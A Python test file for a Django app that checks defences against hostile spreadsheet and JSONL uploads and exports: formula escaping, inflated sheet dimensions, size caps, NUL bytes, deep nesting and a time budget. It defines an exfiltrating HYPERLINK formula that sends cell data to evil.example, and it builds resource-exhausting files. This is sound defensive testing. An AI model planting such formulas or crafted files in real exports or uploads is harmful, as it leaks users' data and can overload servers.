"""Hostile files and hostile cells: formula injection in exports, small files that declare huge sheets,
files over the size cap, NUL bytes, malformed JSONL, and a time budget that ends a long check.

Work is bounded by caps and budgets that the tests exhaust (rows read, cells per row, a fake clock),
never by measuring wall-clock time.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.test import override_settings
from openpyxl import Workbook, load_workbook

from iehub.accounts.models import User
from iehub.core.tabular import (
    MAX_COLUMNS,
    TableError,
    WorkBudget,
    escape_formula,
    read_table,
    unescape_formula,
)
from iehub.demand.ingest import import_postings
from iehub.demand.models import JobPosting, PostingImport
from tests.helpers import api

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
PEOPLE_ALIASES = {"username": "username", "full_name": "full_name"}


def _upload(content: bytes, name: str) -> io.BytesIO:
    buffer = io.BytesIO(content)
    buffer.name = name
    return buffer


@pytest.mark.parametrize("value", ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_like_text_is_escaped_and_restored(value):
    escaped = escape_formula(value)
    assert escaped == "'" + value
    assert unescape_formula(escaped) == value
    assert escape_formula(-5) == -5 and escape_formula("张三") == "张三"


def test_a_student_name_cannot_become_a_formula_in_the_admins_export(world):
    renamed = api(
        world.client_for(world.student), "patch", f"/api/v1/people/{world.student.pk}", {"full_name": FORMULA}
    )
    assert renamed.status_code == 200, renamed.content
    admin = world.client_for(world.college_admin)

    csv_bytes = admin.get("/api/v1/exports/people?format=csv").content
    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))
    names = [row[1] for row in rows[1:]]
    assert "'" + FORMULA in names and FORMULA not in names

    xlsx = load_workbook(io.BytesIO(admin.get("/api/v1/exports/people?format=xlsx").content))
    cells = [
        c for row in xlsx.active.iter_rows(min_row=2) for c in row if str(c.value).endswith('点击查看")')
    ]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)

    # The export imports back as it was: the stored name is unchanged.
    report = admin.post("/api/v1/imports/people", {"file": _upload(csv_bytes, "people.csv")})
    assert report.status_code == 200, report.content
    assert User.objects.get(pk=world.student.pk).full_name == FORMULA


def _xlsx_with_dimension(ref: str, extra_row: bytes = b"") -> bytes:
    """A tiny workbook whose sheet declares ``ref`` as its dimension (and optionally one far-away row)."""
    workbook = Workbook()
    workbook.active.append(["username", "full_name"])
    workbook.active.append(["a1", "张三"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    source, out = zipfile.ZipFile(io.BytesIO(buffer.getvalue())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(
                    rb'<dimension ref="[^"]+" ?/>', b'<dimension ref="' + ref.encode() + b'"/>', data
                )
                data = data.replace(b"</sheetData>", extra_row + b"</sheetData>")
            target.writestr(item, data)
    return out.getvalue()


def test_a_declared_million_row_sheet_costs_only_its_real_cells():
    raw = _xlsx_with_dimension("A1:XFD1048576")
    assert len(raw) < 10_000
    table = read_table(io.BytesIO(raw), "x.xlsx", PEOPLE_ALIASES, PEOPLE_ALIASES)
    assert table.rows == [(2, {"username": "a1", "full_name": "张三"})]


def test_a_real_far_away_cell_stops_at_the_row_cap():
    far = b'<row r="100000"><c r="ALL100000" t="inlineStr"><is><t>x</t></is></c></row>'
    raw = _xlsx_with_dimension("A1:ALL100000", far)
    assert len(raw) < 10_000
    with pytest.raises(TableError, match="1000"):
        read_table(io.BytesIO(raw), "x.xlsx", PEOPLE_ALIASES, PEOPLE_ALIASES, WorkBudget(max_rows=1000))


def test_a_header_wider_than_any_format_is_refused():
    workbook = Workbook()
    workbook.active.append([f"c{i}" for i in range(MAX_COLUMNS + 5)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(TableError, match=str(MAX_COLUMNS)):
        read_table(io.BytesIO(buffer.getvalue()), "x.xlsx", {}, [])


def test_garbage_named_xlsx_is_a_report_not_a_crash(world):
    response = world.client_for(world.college_admin).post(
        "/api/v1/imports/people", {"file": _upload(b"PK\x03\x04 not really a zip", "people.xlsx")}
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["message"]


@override_settings(IEHUB_UPLOAD_MAX_BYTES=2000)
def test_a_file_over_the_size_cap_is_refused_with_a_message(world):
    body = b"username,full_name,organization_code,role\n" + b"u,name,C1,teacher\n" * 200
    response = world.client_for(world.college_admin).post(
        "/api/v1/imports/people", {"file": _upload(body, "people.csv")}, HTTP_ACCEPT_LANGUAGE="en"
    )
    assert response.status_code == 422
    assert "larger than" in response.json()["errors"][0]["message"]
    assert not User.objects.filter(username="u").exists()


def test_a_csv_field_over_the_csv_limit_is_a_report(world):
    huge = b"username,full_name,organization_code,role\nbig," + b"x" * 200_000 + b",C1,teacher\n"
    response = world.client_for(world.college_admin).post(
        "/api/v1/imports/people", {"file": _upload(huge, "p.csv")}
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["message"]


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (
            b'{"title": "a", "description": "b", "date": "2025-01-01"}\n[1, 2]\n',
            "Line 2 is not a JSON object",
        ),
        (b'{"title": "\xff\xfe"}\n', "not UTF-8"),
        (b'{"title": "a\\u0000", "description": "b", "date": "2025-01-01"}\n', "NUL"),
        (b"[" * 100_000 + b"\n", "Line 1 is not valid JSON"),
    ],
)
def test_malformed_jsonl_fails_the_import_with_a_message(world, content, fragment):
    batch = PostingImport.objects.create(file_name="p.jsonl", imported_by=world.platform_admin)
    from django.utils import translation

    with translation.override("en"):
        report = import_postings(world.platform_admin, io.BytesIO(content), "p.jsonl", batch=batch)
    assert not report.ok and fragment in report.errors[0].message
    batch.refresh_from_db()
    assert batch.status == PostingImport.Status.FAILED
    assert fragment in batch.errors[0]["message"]
    assert not JobPosting.objects.exists()


def test_the_time_budget_ends_a_long_check_with_a_message(world):
    ticks = iter(range(10_000))
    budget = WorkBudget(max_rows=1000, max_seconds=5, clock=lambda: float(next(ticks)))
    rows = "".join(f"剪辑师{i},负责剪辑与调色工作{i},2025-01-0{1 + i % 9}\n" for i in range(50))
    from django.utils import translation

    with translation.override("en"):
        report = import_postings(
            world.platform_admin,
            io.BytesIO(("title,description,date\n" + rows).encode()),
            "p.csv",
            budget=budget,
        )
    assert not report.ok
    assert "longer than 5 seconds" in report.errors[0].message
    assert next(ticks) <= 8, "the check went on after its budget was spent"
    assert not JobPosting.objects.exists()
